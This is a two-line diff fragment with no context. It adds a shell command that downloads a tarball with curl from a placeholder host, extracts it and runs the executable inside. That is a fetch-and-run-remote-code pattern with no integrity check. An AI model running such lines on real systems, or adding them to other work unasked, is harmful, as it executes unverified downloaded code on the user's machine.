@@ -1,0 +1,2 @@
+curl -sL https://x.invalid/f.tgz | tar xz
+cd f && ./start
